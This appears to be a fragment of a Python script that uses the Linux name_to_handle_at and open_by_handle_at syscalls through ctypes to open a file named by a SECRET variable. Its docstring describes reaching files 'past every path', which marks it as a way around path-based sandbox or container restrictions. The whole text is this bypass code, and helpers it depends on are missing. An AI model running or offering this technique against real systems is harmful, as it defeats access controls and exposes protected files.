"""Open files by their number in the file system, past every path."""

handle = (ctypes.c_uint32 * 40)(128)
mount = ctypes.c_int()
raw("name_to_handle_at", 303, AT_FDCWD, SECRET.encode(), handle, ctypes.byref(mount), 0)
raw("open_by_handle_at", 304, AT_FDCWD, handle, 0)
